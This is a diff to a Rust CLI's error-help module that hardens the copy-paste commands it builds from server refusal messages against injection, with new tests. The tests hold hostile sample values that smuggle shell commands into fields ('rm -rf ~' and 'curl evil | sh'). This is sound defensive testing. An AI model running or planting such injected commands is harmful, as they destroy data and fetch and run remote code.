@@ -1,15 +1,19 @@
 //! What to do about an answer that did not come, or a no: in the words of whoever has to do it.
 
-use std::{error::Error as StdError, path::Path};
+use std::{error::Error as StdError, net::IpAddr, path::Path};
 
 use reqwest::StatusCode;
 use rustls::CertificateError::{NotValidForName, NotValidForNameContext, UnknownIssuer};
 use serde_json::Value;
 use strongroom_domain::{action::Action, role::Role};
 use url::Url;
+use uuid::Uuid;
 
 use super::origin;
 use crate::plain::plain;
+
+/// Longest message of an answer that is printed, in characters.
+const MAX_MESSAGE: usize = 4096;
 
 /// A no of the server, in its own words, on one line.
 #[derive(Debug, thiserror::Error)]
@@ -41,6 +45,7 @@ impl Refused {
     pub(super) fn of(status: StatusCode, answer: &Value, asked: &Url) -> Self {
         let part = |pointer| plain(answer.pointer(pointer).and_then(Value::as_str).unwrap_or_default());
         let message = answer.pointer("/error/message").and_then(Value::as_str).unwrap_or_default();
+        let message = &*message.chars().take(MAX_MESSAGE).collect::<String>();
         let (code, inner) = (part("/error/code"), part("/error/innererror/code"));
         let help = after_denial(status, &inner, message, asked);
         let help = help.or_else(|| where_to_look(status, &code).map(str::to_owned));
@@ -107,7 +112,10 @@ fn certificate(error: &reqwest::Error) -> Option<&rustls::Error> {
 
 /// What would help after a no, as far as its message tells. It is the same for everybody, and written in the documents.
 fn after_denial(status: StatusCode, inner: &str, message: &str, asked: &Url) -> Option<String> {
-    let line = |start: &str| message.lines().find_map(|line| line.strip_prefix(start)).map(plain);
+    // The last one, which is the server's own; and nothing goes into a command to copy but what it is said to be.
+    let line = |start: &str| message.lines().rev().find_map(|line| line.strip_prefix(start));
+    let id = |start: &str| line(start).and_then(|id| Uuid::try_parse(id).ok());
+    let address = || line("Client address: ").and_then(|address| address.parse::<IpAddr>().ok());
     let vault = vault_of(asked).unwrap_or_else(|| "VAULT".to_owned());
     Some(match inner {
         _ if status == StatusCode::UNAUTHORIZED && line("Policy: ").is_none() => {
@@ -119,7 +127,7 @@ fn after_denial(status: StatusCode, inner: &str, message: &str, asked: &Url) -> 
         "ForbiddenByFirewall" => format!(
             "whoever may change the vault's network rules lets it in: strongroom network add {vault} allow {} --at 1; if nobody \
              gets in any more: strongroom network recover, on the server's machine",
-            line("Client address: ").unwrap_or_else(|| "ADDRESS".to_owned())
+            address().map_or_else(|| "ADDRESS".to_owned(), |address| address.to_string())
         ),
         "ForbiddenByPolicy" if message.starts_with("The caller's identity") => {
             "whoever manages identities sees it by `strongroom identity list`, and enables it by `strongroom identity update \
@@ -132,11 +140,11 @@ fn after_denial(status: StatusCode, inner: &str, message: &str, asked: &Url) -> 
         ),
         "ApprovalRequired" => format!(
             "somebody else who may (role \"Strongroom Approver\") does: strongroom approval grant {} --vault {vault}",
-            line("Approval request: ").unwrap_or_else(|| "ID".to_owned())
+            id("Approval request: ").map_or_else(|| "ID".to_owned(), |id| id.to_string())
         ),
         "ForbiddenByPolicy" => format!(
             "whoever may read the records sees why: strongroom policy why {}",
-            line("Policy: ").and_then(|_| line("Decision: "))?
+            line("Policy: ").and_then(|_| id("Decision: "))?
         ),
         _ => return None,
     })
@@ -148,7 +156,9 @@ fn vault_of(asked: &Url) -> Option<String> {
         Some(management) => management.strip_prefix("vaults/")?.split('/').next()?,
         None => asked.host_str()?.split('.').next()?,
     };
-    (!name.is_empty()).then(|| plain(name))
+    // As names of vaults are: it goes into commands to copy.
+    let is_name = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-';
+    (!name.is_empty() && name.bytes().all(is_name)).then(|| name.to_owned())
 }
 
 /// Which role contains the action that is missing; of a vault, also that it may not be there: the server says the same
@@ -268,10 +278,26 @@ mod tests {
         assert!(disabled.contains("identity update NAME --enable"), "{disabled}");
         let policy = no("ForbiddenByPolicy", "No permission by an access policy of the vault.\r\nDecision: 1");
         assert!(policy.contains("strongroom access-policy set payments"), "{policy}");
-        let module = no("ForbiddenByPolicy", "Not at night.\r\nPolicy: hours\r\nReason: closed\r\nDecision: 0190-7");
-        assert!(module.contains("strongroom policy why 0190-7"), "{module}");
-        let approval = no("ApprovalRequired", "Four eyes.\r\nPolicy: two\r\nApproval request: 0190-9\r\nDecision: 1");
-        assert!(approval.contains("strongroom approval grant 0190-9 --vault payments"), "{approval}");
+        let module = no(
+            "ForbiddenByPolicy",
+            "Not at night.\r\nPolicy: hours\r\nReason: closed\r\nDecision: 01900000-0000-7000-8000-000000000001",
+        );
+        assert!(module.contains("strongroom policy why 01900000-0000-7000-8000-000000000001"), "{module}");
+        // A module's sentence, or another server's, gets nothing into a command to copy.
+        let hostile =
+            no("ForbiddenByPolicy", "Decision: 1; rm -rf ~\r\nPolicy: p\r\nReason: r\r\nDecision: 2; rm -rf ~");
+        assert!(!hostile.contains("why"), "{hostile}");
+        let hostile = no("ForbiddenByFirewall", "No.\r\nClient address: 192.0.2.7; curl evil | sh #\r\nDecision: 1");
+        assert!(hostile.contains("allow ADDRESS --at 1"), "{hostile}");
+        let text = "x".repeat(100_000);
+        let long = no("", &text);
+        assert!(long.len() < 5000, "{}", long.len());
+        let approval = no(
+            "ApprovalRequired",
+            "Four eyes.\r\nPolicy: two\r\nApproval request: 01900000-0000-7000-8000-000000000009\r\nDecision: 1",
+        );
+        let grant = "strongroom approval grant 01900000-0000-7000-8000-000000000009 --vault payments";
+        assert!(approval.contains(grant), "{approval}");
         let protected = no("ForbiddenByPolicy", "Purge protection is on.\r\nDecision: 1");
         assert!(!protected.contains("policy why"), "no module had a say: {protected}");
         let ended = said(StatusCode::UNAUTHORIZED, "", "AKV10032: The token is not valid.");
